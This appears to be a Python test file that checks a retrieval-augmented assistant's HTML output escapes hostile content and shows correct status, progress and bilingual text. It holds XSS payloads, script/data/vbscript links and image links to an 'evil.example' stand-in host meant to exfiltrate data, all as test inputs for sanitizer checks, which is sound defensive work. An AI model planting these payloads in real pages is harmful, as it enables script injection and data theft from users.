"""The page's HTML from values alone: nothing of a document gets through as markup, and every state has its words."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.accounts.actor import SYSTEM
from rag.events import Cancel, DocumentOutcome, IngestEvent, IngestStage, Stage, StageEvent, StageState
from rag.evidence.whynot import Check, Diagnosis, Fit, Obstacle, Passage, Passing, Remedy, Step
from rag.knowledge.jobs.job import Job, JobFile, JobState, Pace
from rag.knowledge.listing import Listing, listed
from rag.ledger import Outcome, Request
from rag.messages import LANGUAGES, Language, area, reason
from rag.status import ModelInfo, PartState, PartStatus, Status
from rag.types import Document, RetrievalOptions, StoredChunk
from rag.ui.html import highlights, shell, status
from rag.ui.html.answer import transcript
from rag.ui.html.evidence import evidence, whynot
from rag.ui.html.formulas import ELEMENTS
from rag.ui.html.library import jobs, table
from rag.ui.html.markdown import Chips, answer, to_html
from rag.ui.state.turn import Turn
from tests.support.browsed import Page
from tests.support.scripted_service import ScriptedService
from tests.support.searches import found_by, with_found

HOSTILE = "<img src=x onerror=alert(1)>\"'`${7*7}</script><script>alert(2)</script>"
OUR_TAGS = [
    "a",
    "article",
    "b",
    "bdi",
    "blockquote",
    "br",
    "button",
    "circle",
    "code",
    "dd",
    "del",
    "desc",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "form",
    "g",
    "h1",
    "h2",
    "h3",
    "h4",
    "header",
    "hr",
    "i",
    "input",
    "ins",
    "kbd",
    "label",
    "li",
    "mark",
    "ol",
    "option",
    "p",
    "path",
    "pre",
    "q",
    "rect",
    "s",
    "section",
    "select",
    "small",
    "span",
    "strong",
    "summary",
    "svg",
    "table",
    "tbody",
    "td",
    "template",
    "text",
    "textarea",
    "th",
    "thead",
    "time",
    "title",
    "tr",
    "ul",
]


def assert_harmless(html: str) -> None:
    """Only our own tags, no handlers, no address that could be fetched or run."""
    for tag, attributes in Page(html).tags:
        assert tag in OUR_TAGS or tag in ELEMENTS, tag
        assert not [name for name in attributes if name.startswith("on") or name in ("src", "srcset", "style-src")]
        href = attributes.get("href") or ""
        assert not href or href.startswith(("#", "https://", "http://")), href


def answered(question: str = "How do I rotate TLS certificates?", number: int = 1) -> Turn:
    """A finished turn of the scripted service."""
    turn = Turn(number, question, RetrievalOptions())
    for event in ScriptedService().ask(SYSTEM, Request(question), cancel=Cancel()):
        turn = turn.after(event)
    return turn


MAIN = {"kb": "Main"}


def job(*events: IngestEvent, state: JobState) -> Job:
    return Job("j", "kb", state, 0.0, tuple(JobFile("0" * 64, event) for event in events))


def hostile_turn() -> Turn:
    turn = answered()
    assert turn.ledger is not None
    bad = tuple(
        replace(
            c,
            stored=StoredChunk(
                HOSTILE,
                HOSTILE,
                "0",
                "en",
                replace(c.stored.chunk, text=HOSTILE + " How rotate", heading_path=(HOSTILE, "\u202egnp.md")),
            ),
        )
        for c in turn.candidates
    )
    retrieval = replace(found_by(turn), candidates=bad, query=HOSTILE)
    ledger = replace(turn.ledger, answer=f"{HOSTILE} [1] ![x](http://evil.example/?q=1)")
    ledger = with_found(ledger, retrieval)
    return replace(with_found(turn, retrieval), question=HOSTILE, ledger=ledger, text=ledger.answer)


@pytest.mark.parametrize("language", LANGUAGES)
def test_hostile_text_stays_text_in_transcript_and_evidence(language: Language) -> None:
    turn = hostile_turn()
    shown = transcript.turn(turn, language)
    panel = evidence.panel([turn], 1, language, score_name="p_yes")
    assert_harmless(shown)
    assert_harmless(panel)
    assert "<img src=x onerror=alert(1)>" in Page(shown).shown
    assert "<img src=x onerror=alert(1)>" in Page(panel).shown
    assert "\u202e" not in panel


@pytest.mark.parametrize("language", LANGUAGES)
def test_hostile_names_stay_text_in_the_document_pages(language: Language) -> None:
    event = IngestEvent(
        HOSTILE,
        HOSTILE,
        5,
        IngestStage.READ,
        outcome=DocumentOutcome.REFUSED,
        reason=reason("ui.document_gone", name=HOSTILE),
    )
    stored = Document(HOSTILE, "0", HOSTILE, HOSTILE, 5, 1, 1, 0.0)
    for html in (
        jobs.progress([(job(event, state=JobState.DONE), Pace())], language, base="kb", names=MAIN),
        table.table(listed([stored], Listing()), Listing(), language, base=HOSTILE, kept={HOSTILE}),
    ):
        assert_harmless(html)
        assert "<img src=x onerror=alert(1)>" in Page(html).shown


@given(st.text(max_size=300))
def test_no_text_becomes_a_tag_in_an_answer(source: str) -> None:
    chips = Chips(1, {1: source, 2: "two"}, "en")
    assert_harmless(answer(source + " [1]", chips, complete=True))
    assert_harmless(answer(source, chips, complete=False))


@given(st.text(alphabet="<>&\"'`${}[]()!#*_-=/:.ab1 \n", max_size=200))
def test_no_markup_character_becomes_a_tag_in_an_answer(source: str) -> None:
    assert_harmless(answer(source, Chips(1, {1: "one"}, "en"), complete=True))


@given(
    st.text(max_size=80),
    st.lists(st.tuples(st.integers(-5, 90), st.integers(-5, 90)), max_size=5),
    st.tuples(st.integers(0, 80), st.integers(0, 80)) | st.none(),
)
def test_marking_a_passage_changes_nothing_of_its_text(
    source: str, terms: list[tuple[int, int]], best: tuple[int, int] | None
) -> None:
    source = re.sub(r"[\x00-\x1f\x7f]", " ", source)
    html = highlights.marked(source, best=best, terms=terms)
    assert_harmless(html)
    assert Page(html).shown == source


def test_a_citation_becomes_a_chip_that_names_its_source_and_an_unknown_number_stays_text() -> None:
    html = answer("It is so [1]; not so [7].", Chips(4, {1: "guide.md › Start"}, "en"), complete=True)
    chips = [a for tag, a in Page(html).tags if tag == "a"]
    assert [(c["href"], c["title"]) for c in chips] == [("#ev-4-1", "guide.md › Start")]
    assert "[7]" in Page(html).shown


@pytest.mark.parametrize(
    ("source", "seen"),
    [
        pytest.param("[click](javascript:alert(1))", [], id="script address"),
        pytest.param("[click](data:text/html,x)", [], id="data address"),
        pytest.param("[page](https://example.org/a)", ["https://example.org/a"], id="web address"),
        pytest.param("[1]: http://evil.example\n\nSo it is [1].", ["#ev-1-1", "#ev-1-1"], id="reference definition"),
        pytest.param("![x](http://evil.example/?q=secret)", [], id="image"),
    ],
)
def test_only_web_addresses_and_chips_are_links(source: str, seen: list[str]) -> None:
    tags = Page(answer(source, Chips(1, {1: "one"}, "en"), complete=True)).tags
    assert [a["href"] for tag, a in tags if tag == "a" and "href" in a] == seen
    assert "img" not in [tag for tag, _ in tags]


@pytest.mark.parametrize(
    "source",
    [
        "[click](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[click](vbscript:x)",
        "![x](http://evil.example/?q=secret)",
        "![x](data:image/svg+xml,x)",
        "<img src=x onerror=alert(1)>",
        "[1]: javascript:alert(1)\n\n[1]",
        "[x](#ev-9-1) [x](#ev-1-9)",
    ],
)
def test_the_parser_alone_lets_nothing_dangerous_through(source: str) -> None:
    html = to_html(source, Chips(1, {1: "one"}, "en"))
    assert_harmless(html)
    assert [a for tag, a in Page(html).tags if tag == "img" or a.get("href")] == []


@pytest.mark.parametrize("growing", ["It is [", "It is [1", "It is [1"], ids=["open", "number", "number again"])
def test_a_marker_that_has_only_begun_is_not_shown(growing: str) -> None:
    assert "[" not in Page(answer(growing, Chips(1, {1: "one"}, "en"), complete=False)).shown


def test_a_card_shows_source_scores_under_their_names_and_how_far_it_moved() -> None:
    turn = answered()
    tags = Page(evidence.panel([turn], 1, "en", score_name="p_yes"))
    for expected in ("operations/tls.md", "Rotating certificates", "P(yes)", "0.986", "+4.28", "▲2", "BM25", "RRF"):
        assert expected in tags.shown
    meters = [a for _, a in tags.tags if a.get("role") == "meter"]
    assert meters[0]["aria-valuenow"] == "0.986"
    assert meters[0]["aria-label"] == "P(yes)"


def test_the_offline_estimate_is_never_called_p_yes() -> None:
    text = Page(evidence.panel([answered()], 1, "en", score_name="offline_estimate")).shown
    assert "relevance (offline estimate)" in text
    assert "P(yes)" not in text


def test_candidates_not_used_are_listed_each_with_its_reason() -> None:
    tags = Page(evidence.panel([answered()], 1, "en", score_name="p_yes"))
    assert "Not used (3)" in tags.shown
    assert tags.shown.count("below the threshold") == 3


def test_a_card_is_marked_cited_only_when_the_answer_cites_it() -> None:
    turn = answered()
    assert turn.ledger is not None
    uncited = replace(turn, ledger=replace(turn.ledger, citations=turn.ledger.citations[:1]))
    panel = Page(evidence.panel([uncited], 1, "en", score_name="p_yes"))
    cards = [str(a["class"]) for tag, a in panel.tags if tag == "li" and str(a.get("class")).startswith("card")]
    assert ["cited" in c.split() for c in cards] == [True, False, False]


@pytest.mark.parametrize(
    ("outcome", "why", "expected"),
    [
        pytest.param(Outcome.GENERATED, None, "Generated by gpt-4o", id="generated"),
        pytest.param(Outcome.EXTRACTIVE, None, "Extractive answer", id="extractive"),
        pytest.param(Outcome.EXTRACTIVE, reason("runtime.loading"), "did not answer", id="extractive after a failure"),
        pytest.param(Outcome.ABSTAINED, reason("stages.nothing_matches"), "Nearest passages", id="abstained"),
        pytest.param(Outcome.FAILED, reason("runtime.loading"), "still loading", id="failed"),
        pytest.param(Outcome.STOPPED, None, "Stopped by you", id="stopped"),
    ],
)
def test_every_outcome_is_named(outcome: Outcome, why: object, expected: str) -> None:
    turn = answered()
    assert turn.ledger is not None
    turn = replace(turn, ledger=replace(turn.ledger, outcome=outcome, reason=why))  # type: ignore[arg-type]
    html = transcript.turn(turn, "en")
    assert expected in Page(html).shown
    assert 'data-act="retry"' in html


def test_a_failed_stage_is_said_beside_the_answer_not_only_in_the_record() -> None:
    html = transcript.turn(answered("break rerank"), "en")
    beside = html[html.index("</details>") :]
    assert "it broke down (MemoryError)" in beside


def test_stages_show_their_count_while_they_run() -> None:
    turn = Turn(1, "q", RetrievalOptions(), stages=(StageEvent(Stage.RERANK, StageState.PROGRESS, done=12, total=20),))
    assert "rerank 12/20" in Page(transcript.turn(turn, "en")).shown


def test_every_turn_offers_to_ask_again() -> None:
    html = transcript.turns([answered(), answered(number=2)], "en")
    assert [a["data-turn"] for _, a in Page(html).tags if a.get("data-act") == "retry"] == ["1", "2"]


@pytest.mark.parametrize(
    ("names", "offered"),
    [
        pytest.param([], True, id="nothing there"),
        pytest.param(["mine.md"], False, id="documents there"),
        pytest.param(None, False, id="database away"),
    ],
)
def test_the_sample_handbook_is_offered_only_when_there_is_nothing(names: list[str] | None, offered: bool) -> None:
    assert ('data-act="sample"' in transcript.empty("en", documents=names)) is offered


@pytest.mark.parametrize(
    ("names", "suggested"),
    [
        pytest.param([], True, id="nothing there"),
        pytest.param(["mine.md"], False, id="own documents"),
        pytest.param(["handbook/en/04-evidence.md"], True, id="handbook there"),
    ],
)
def test_questions_are_suggested_only_where_the_handbook_can_answer_them(names: list[str], suggested: bool) -> None:
    assert ('data-act="example"' in transcript.empty("en", documents=names)) is suggested


def test_progress_says_counts_outcomes_and_reasons() -> None:
    files = (
        IngestEvent("a.md", "", 2048, IngestStage.INDEX, 9, 9, 9, 9, DocumentOutcome.ADDED),
        IngestEvent("b.md", "docs.zip", 10, IngestStage.EMBED, 3, 12, 12, 3),
        IngestEvent("c.bin", "", 1, IngestStage.READ, outcome=DocumentOutcome.REFUSED, reason=reason("ui.turn_gone")),
    )
    running = Page(
        jobs.progress([(job(*files, state=JobState.RUNNING), Pace(3.25, 100.0))], "en", base="kb", names=MAIN)
    ).shown
    for expected in (
        "2 of 3 files",
        "3.2 chunks/s",
        "about 2 min left",
        "2.0 KB",
        "from docs.zip",
        "3/12",
        "refused",
        "Reload the page",
    ):
        assert expected in running
    assert "Cancel" in running
    ended = Page(jobs.progress([(job(*files[::2], state=JobState.DONE), Pace())], "en", base="kb", names=MAIN)).shown
    assert "1 added · 1 refused" in ended
    assert "Cancel" not in ended


@pytest.mark.parametrize(
    ("language", "said"), [("en", "kept beside README.md, which is another document"), ("zh", "与 README.md 并存")]
)
def test_a_file_that_is_kept_beside_another_of_its_name_says_so(language: Language, said: str) -> None:
    file = IngestEvent("README (2).md", "", 9, IngestStage.INDEX, outcome=DocumentOutcome.ADDED, beside="README.md")
    shown = jobs.progress([(job(file, state=JobState.DONE), Pace())], language, base="kb", names=MAIN)
    assert said in Page(shown).shown


@pytest.mark.parametrize(("language", "said"), [("en", "1 added · 3 files passed over"), ("zh", "略过 3 个文件")])
def test_files_that_are_no_documents_are_told_of_beside_the_counts(language: Language, said: str) -> None:
    told = reason("files.passed_over", count=3, kinds="2 .rst, 1 .csv")
    files = (
        IngestEvent("a.md", "", 9, IngestStage.INDEX, outcome=DocumentOutcome.ADDED),
        IngestEvent("mix.zip", "", 0, IngestStage.READ, outcome=DocumentOutcome.PASSED_OVER, reason=told),
    )
    shown = Page(jobs.progress([(job(*files, state=JobState.DONE), Pace())], language, base="kb", names=MAIN)).shown
    assert said in shown and "2 .rst, 1 .csv" in shown


@pytest.mark.parametrize(("done", "drawn"), [(0, range(0, 9)), (40, range(36, 45)), (98, range(94, 100))])
def test_a_long_job_shows_the_file_it_is_at_what_lies_around_it_and_what_went_wrong(done: int, drawn: range) -> None:
    good = IngestEvent("", "", 1, IngestStage.INDEX, 1, 1, 1, 1, DocumentOutcome.ADDED)
    files = [replace(good, name=f"{i}.md") for i in range(done)]
    files += [IngestEvent(f"{i}.md", "", 1, IngestStage.READ) for i in range(done, 100)]
    files[99] = replace(files[99], outcome=DocumentOutcome.REFUSED, reason=reason("ui.turn_gone"))
    html = jobs.progress([(job(*files, state=JobState.RUNNING), Pace())], "en", base="kb", names=MAIN)
    assert re.findall(r"(\d+)\.md", html) == [str(i) for i in sorted({*drawn, 99})]
    assert len(re.findall('<tr class="running">', html)) == 1
    assert f"and {100 - len({*drawn, 99})} more files" in html


def test_files_of_a_job_that_waits_are_not_said_to_be_worked_on() -> None:
    file = IngestEvent("a.md", "", 1, IngestStage.READ)
    html = jobs.progress([(job(file, file, state=JobState.WAITING), Pace())], "en", base="kb", names=MAIN)
    assert html.count('<tr class="waiting">') == 2
    assert "step now" not in html


def test_the_newest_job_comes_first_and_one_that_waits_says_behind_how_many() -> None:
    new = IngestEvent("new.md", "", 1, IngestStage.READ)
    old = replace(new, name="old.md", stage=IngestStage.INDEX, outcome=DocumentOutcome.ADDED)
    several = [
        replace(job(old, state=JobState.DONE), id="1"),
        replace(job(old, replace(new, name="now.md"), state=JobState.RUNNING), id="2", collection="other"),
        replace(job(new, new, state=JobState.WAITING), id="3"),
        replace(job(state=JobState.WAITING), id="4"),
    ]
    told = [(one, Pace()) for one in several]
    shown = Page(jobs.progress(told, "en", base="kb", names={**MAIN, "other": "Other"})).shown
    places = [shown.index(said) for said in ("behind 2 jobs", "2 files · behind 1 job", "1 added", "1 of 2 files")]
    assert places == sorted(places)
    assert "models may still be loading" not in shown


@pytest.mark.parametrize("outcome", list(DocumentOutcome))
def test_a_job_that_went_well_is_one_line_and_one_that_did_not_shows_its_files(outcome: DocumentOutcome) -> None:
    file = IngestEvent("a.md", "", 1, IngestStage.INDEX, outcome=outcome)
    shown = jobs.progress([(job(file, state=JobState.DONE), Pace())], "en", base="kb", names=MAIN)
    well = (DocumentOutcome.ADDED, DocumentOutcome.REPLACED, DocumentOutcome.UNCHANGED, DocumentOutcome.MOVED)
    assert ('<details class="job-files"' in shown) is (outcome in (*well, DocumentOutcome.PASSED_OVER))


@pytest.mark.parametrize(("language", "said"), [("en", "1 of 2 files"), ("zh", "1 / 2 个文件")])
def test_a_running_job_has_a_bar_with_its_total_on_the_documents_page_and_at_the_first_run(
    language: Language, said: str
) -> None:
    todo = IngestEvent("b.md", "", 1, IngestStage.READ)
    done = replace(todo, stage=IngestStage.INDEX, outcome=DocumentOutcome.ADDED)
    running = job(done, todo, state=JobState.RUNNING)
    bar = f'<progress class="job-bar" max="2" value="1" aria-label="{said}"></progress>'
    assert bar in jobs.progress([(running, Pace())], language, base="kb", names=MAIN)
    first = transcript.empty(language, documents=(), job=running)
    assert bar in first and said in Page(first).shown
    waiting = replace(running, state=JobState.WAITING)
    assert "<progress" not in jobs.progress([(waiting, Pace())], language, base="kb", names=MAIN)


def parts(*states: PartState) -> Status:
    infos = (
        ModelInfo("all-MiniLM-L6-v2", "8b3219a", "cpu", "float32"),
        ModelInfo("all-MiniLM-L6-v2", "", "cpu", "float32", score_name="offline_estimate"),
    )
    names = ("store", "embedder", "reranker", "chat")
    known = dict(zip(names[1:3], infos, strict=True))
    shown = tuple(PartStatus(n, s, info=known.get(n)) for n, s in zip(names, states, strict=True))
    return Status("offline", reason("runtime.profile_forced"), shown)


@pytest.mark.parametrize(
    ("store", "kind", "label"),
    [
        pytest.param(PartState.READY, "ready", "offline · all-MiniLM-L6-v2 · MaxSim · extractive", id="ready"),
        pytest.param(PartState.LOADING, "busy", "Models are loading", id="loading"),
        pytest.param(PartState.FAILED, "failed", "Database failed", id="failed"),
    ],
)
def test_the_pill_says_what_runs_or_what_is_missing(store: PartState, kind: str, label: str) -> None:
    html = status.pill(parts(store, PartState.READY, PartState.READY, PartState.READY), "en")
    assert f'class="pill {kind}"' in html
    assert label in Page(str(html).partition("</button>")[0] + "</button>").shown
    assert "chosen by RAG_PROFILE" in Page(html).shown


@pytest.mark.parametrize("language", LANGUAGES)
def test_fixed_pieces_have_no_word_of_the_other_language(language: Language) -> None:
    text = Page(shell.documents_head(language) + shell.settings_head(language) + shell.hint(language)).shown
    assert bool(re.search(r"[\u4e00-\u9fff]", text)) is (language == "zh")


def test_every_word_of_the_page_is_there_in_both_languages_with_the_same_placeholders() -> None:
    for name, row in area("ui").items():
        assert set(row) == set(LANGUAGES), name
        assert set(re.findall(r"\{(\w+)", row["en"])) == set(re.findall(r"\{(\w+)", row["zh"])), name


@pytest.mark.parametrize(
    ("profile", "language", "words"),
    [
        ("offline", "en", "offline profile"),
        ("offline", "zh", "离线配置"),
        ("qwen3", "en", "Qwen3 profile"),
        ("qwen3", "zh", "Qwen3 配置"),
    ],
)
@pytest.mark.parametrize("outcome", list(Outcome))
def test_every_answer_names_its_profile(outcome: Outcome, profile: str, language: Language, words: str) -> None:
    turn = answered()
    assert turn.ledger is not None
    turn = replace(turn, ledger=replace(turn.ledger, profile=profile, outcome=outcome))
    assert f'<span class="profile">{words}</span>' in transcript.turn(turn, language)


@pytest.mark.parametrize("outcome", list(Outcome))
@pytest.mark.parametrize("ingesting", [True, False])
def test_an_abstention_during_an_ingest_says_so(outcome: Outcome, ingesting: bool) -> None:
    turn = answered()
    assert turn.ledger is not None
    turn = replace(turn, ingesting=ingesting, ledger=replace(turn.ledger, outcome=outcome))
    said = "still being ingested" in transcript.turn(turn, "en")
    assert said is (ingesting and outcome is Outcome.ABSTAINED)


@pytest.mark.parametrize("other", ["片段", "候选段落", "相关性", "向量模型", "向量化", "提示词", "对话模型", "篇"])
def test_chinese_words_for_one_thing_are_one(other: str) -> None:
    assert [name for name, row in area("ui").items() if other in row["zh"]] == []


def test_a_card_without_a_best_sentence_begins_below_its_own_heading() -> None:
    turn = answered("zzz")
    first = turn.candidates[0]
    text = "## Rotating certificates\n\nThe broker reads its key pair."
    shown = replace(first, stored=replace(first.stored, chunk=replace(first.stored.chunk, text=text)))
    html = evidence.panel(
        (with_found(turn, replace(found_by(turn), candidates=(shown,))),), 1, "en", score_name="p_yes"
    )
    assert '<p class="snippet">The broker reads its key pair.</p>' in html


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_verdict_on_a_hostile_passage_names_no_tag(language: Language) -> None:
    turn = hostile_turn()
    found = Diagnosis(
        Obstacle.OUT_OF_SCOPE,
        reason("whynot.out_of_scope", document=HOSTILE),
        Passage(turn.candidates[0].stored, Fit.CLOSE, 0.9),
        steps=(Step(Check.SCOPE, Passing.STOPPED, reason("whynot.in_scope", document=HOSTILE), now=True),),
        changed=(reason("whynot.document_changed", document=HOSTILE),),
        remedy=Remedy({"also": HOSTILE, "pin": HOSTILE}, given=False, certain=True),
    )
    ledger = replace(turn.ledger, question=HOSTILE) if turn.ledger else None
    assert ledger is not None
    told = whynot.verdict(found, ledger, 1, language)
    html = whynot.form(ledger, 1, language, pasted=HOSTILE, found=told)
    assert_harmless(html)
    assert "<img src=x onerror=alert(1)>" in Page(html).shown
